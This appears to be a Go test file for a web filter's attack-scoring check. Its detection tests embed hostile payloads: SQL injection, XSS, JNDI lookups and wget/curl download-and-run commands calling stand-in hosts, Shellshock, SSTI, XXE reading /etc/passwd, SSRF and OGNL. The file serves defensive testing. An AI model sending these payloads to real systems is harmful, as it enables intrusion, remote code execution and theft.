package score

import (
	"strings"
	"testing"

	"github.com/sallyport/sallyport/daemon/check"
	"github.com/sallyport/sallyport/daemon/request"
)

// judged runs the check on a GET with the target and header, or on a POST of
// the body when there is one.
func judged(c *Check, target, header, contentType, body string) *check.Visit {
	r := request.Get()
	r.Method, r.Protocol, r.URI, r.Host = "GET", "HTTP/1.1", []byte(target), []byte("api.example.com")
	if name, value, ok := strings.Cut(header, ": "); ok {
		r.Headers = append(r.Headers, request.Header{Name: []byte(name), Value: []byte(value)})
	}
	if body != "" {
		r.Method = "POST"
		r.Headers = append(r.Headers, request.Header{Name: []byte("Content-Type"), Value: []byte(contentType)})
		r.Body = request.Body{Present: true, Bytes: []byte(body), Length: int64(len(body))}
	}
	v := &check.Visit{Request: r, Phase: check.Head | check.Body, Stateless: true}
	c.Judge(v)
	return v
}

func TestAttacksAreFoundWhereverTheyStand(t *testing.T) {
	c := testCheck(t)
	for _, a := range []struct{ name, target, header, contentType, body, id, where string }{
		{name: "SQL in a query", target: "/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", id: "sqli", where: "query:id"},
		{name: "twice encoded SQL", target: "/items?id=1%2527%2520or%25201%253D1--%2520-", id: "sqli", where: "query:id"},
		{name: "script in JSON", target: "/", contentType: "application/json", body: `{"note":{"text":"<img src=x onerror=alert(document.cookie)>"}}`, id: "xss", where: "json:/note/text"},
		{name: "a command in a form", target: "/", contentType: "application/x-www-form-urlencoded", body: "host=127.0.0.1%3B+wget+http%3A%2F%2Fa.example%2Fx.sh%3B+sh+x.sh", id: "cmdi", where: "form:host"},
		{name: "traversal in the path", target: "/static/..%2f..%2f..%2f..%2fetc/passwd", id: "path", where: "path"},
		{name: "a lookup in a header", target: "/", header: "User-Agent: ${${lower:j}ndi:${lower:l}dap://a.example/x}", id: "lookup", where: "header:user-agent"},
		{name: "a lookup among tokens", target: "/", header: "X-Id: " + strings.Repeat("a8Zk2", 80) + "${jndi:ldap://a.example/x}", id: "lookup", where: "header:x-id"},
		{name: "a function definition", target: "/cgi-bin/status", header: "User-Agent: () { :;}; /bin/bash -c 'id'", id: "cmdi", where: "header:user-agent"},
		{name: "a template", target: "/?name=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D", id: "ssti", where: "query:name"},
		{name: "an external entity", target: "/", contentType: "application/xml", body: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, id: "xxe"},
		{name: "a parameter of the Referer", target: "/", header: "Referer: https://x.example/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", id: "xss"},
		{name: "a command in base64", target: "/?d=" + "O2NhdCAvZXRjL3Bhc3N3ZDtjdXJsIGh0dHA6Ly9ldmlsLmV4YW1wbGUveC5zaHxzaA==", id: "cmdi", where: "query:d"},
	} {
		v := judged(c, a.target, a.header, a.contentType, a.body)
		found := false
		for _, f := range v.Findings {
			if f.Score >= 80 && f.ID == a.id && (a.where == "" || f.Where == a.where) {
				found = true
				if f.Excerpt == "" || f.Detail == "" || f.Mark[1] == 0 || f.Mark[0]+f.Mark[1] > len(f.Excerpt) {
					t.Errorf("%s: the finding explains nothing: %+v", a.name, f)
				}
			}
		}
		if !found {
			t.Errorf("%s: wanted %s at %q, got %+v", a.name, a.id, a.where, v.Findings)
		}
	}
}

func TestOrdinaryRequestsHaveNoDenial(t *testing.T) {
	c := testCheck(t)
	for _, b := range []struct{ name, target, header, contentType, body string }{
		{name: "a name", target: "/search?name=Se%C3%A1n+O%27Brien+%26+Sons"},
		{name: "a search about SQL", target: "/search?q=how+to+select+from+two+tables+in+sql"},
		{name: "prose", target: "/", contentType: "application/x-www-form-urlencoded", body: "text=Please+select+a+table+from+the+list%2C+or+drop+me+a+line%3B+it%27s+fine%21"},
		{name: "an editor's HTML", target: "/", contentType: "application/json", body: `{"body":"<p class=\"intro\">Our <strong>new</strong> chairs &amp; tables.</p><img src=\"/img/1.jpg\" alt=\"chair\">"}`},
		{name: "a question with code", target: "/v1/chat", contentType: "application/json",
			body: `{"messages":[{"role":"user","content":"Why does this fail?\n\ndef load(path):\n    with open(path, 'r') as f:\n        return json.load(f)\n\nIt says TypeError."}]}`},
		{name: "a browser", target: "/", header: "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36"},
		{name: "a tracker's cookie", target: "/", header: "Cookie: __utmz=1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic; c=%7B%22a%22%3A%5B1%2C2%5D%7D"},
		{name: "GraphQL", target: "/graphql", contentType: "application/json", body: `{"query":"query Q($n: Int = 20) { items(first: $n, where: {id: {in: [1, 2]}}) { nodes { id } } }"}`},
	} {
		for _, f := range judged(c, b.target, b.header, b.contentType, b.body).Findings {
			if f.Score >= 80 {
				t.Errorf("%s: %s scores %.1f at %s: %s", b.name, f.ID, f.Score, f.Where, f.Detail)
			}
		}
	}
}

func TestSettingsOutOfRangeAreNamed(t *testing.T) {
	for key, change := range map[string]func(*Settings){
		"report_score":             func(s *Settings) { s.ReportScore = 0 },
		"model":                    func(s *Settings) { s.Model = "no-such-file.model" },
		"context.min_clients":      func(s *Settings) { s.Context.MinClients = 1 },
		"context.normal_share":     func(s *Settings) { s.Context.NormalShare = 0.01 },
		"context.teach_reputation": func(s *Settings) { s.Context.TeachReputation = 200 },
	} {
		s := Defaults()
		change(&s)
		_, err := New(s, check.Env{})
		setting, ok := err.(*check.SettingError)
		if !ok || setting.Key != key {
			t.Errorf("%s: got %v", key, err)
		}
	}
}

func TestAHarmlessRequestAllocatesLittle(t *testing.T) {
	c := testCheck(t)
	values := []byte("2186776c-bc4b-11ed-ac0f-da7ad0900002")
	s := new(scratch)
	if n := testing.AllocsPerRun(100, func() { c.model.Score(&s.model, values) }); n != 0 {
		t.Errorf("the gate allocates %v times", n)
	}
}

func TestAPathOfPlainNamesIsNoAttack(t *testing.T) {
	c := testCheck(t)
	for _, target := range []string{"/metadata", "/internal/metadata", "/api/localhost", "/upload", "/latest/meta", "/index.php", "/etc", "/wp-login.php", "/select/union/drop"} {
		for _, f := range judged(c, target, "", "", "").Findings {
			if f.ID == "ssrf" || f.Score >= 80 {
				t.Errorf("%s: %s, score %.1f", target, f.ID, f.Score)
			}
		}
	}
	found := false
	for _, f := range judged(c, "/proxy/http://169.254.169.254/latest/meta-data/", "", "", "").Findings {
		found = found || f.Score >= 80
	}
	if !found {
		t.Error("a path that names another server is not found any more")
	}
}

func TestAHeaderOfPlainMediaTypesIsNoAttack(t *testing.T) {
	c := testCheck(t)
	for _, media := range []string{"text/xml", "application/x-protobuf", "application/grpc-web-text", "text/xml; charset=utf-8",
		"application/x-sh", "application/sql", "application/x-httpd-php", "text/x-shellscript", "*/*;q=0.5"} {
		for _, header := range []string{"Content-Type: ", "Accept: "} {
			if v := judged(c, "/", header+media, "", ""); len(v.Findings) > 0 {
				t.Errorf("%s%s: %+v", header, media, v.Findings[0])
			}
		}
	}
	for _, hostile := range []string{"%{(#_='multipart/form-data').(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}", "text/../../../../etc/passwd"} {
		if v := judged(c, "/", "Content-Type: "+hostile, "", ""); len(v.Findings) == 0 {
			t.Errorf("nothing is found in Content-Type: %s", hostile)
		}
	}
}

func TestANameWithAnApostropheIsNoQuery(t *testing.T) {
	for text, want := range map[string]bool{
		"d'or": true, "O'Brien": true, "a'b": true, "l'été": true, "can't stop": true, "women's shoes": true,
		"a' or 1=1": false, "x'or'1": false, "a'or b": false, "a'--": false, "'a": false, "a'": false, "a'b'c": false, "1'or 1": false, "a'union select": false,
	} {
		if got := nameLike([]byte(text)); got != want {
			t.Errorf("%s: %v, want %v", text, got, want)
		}
	}
}
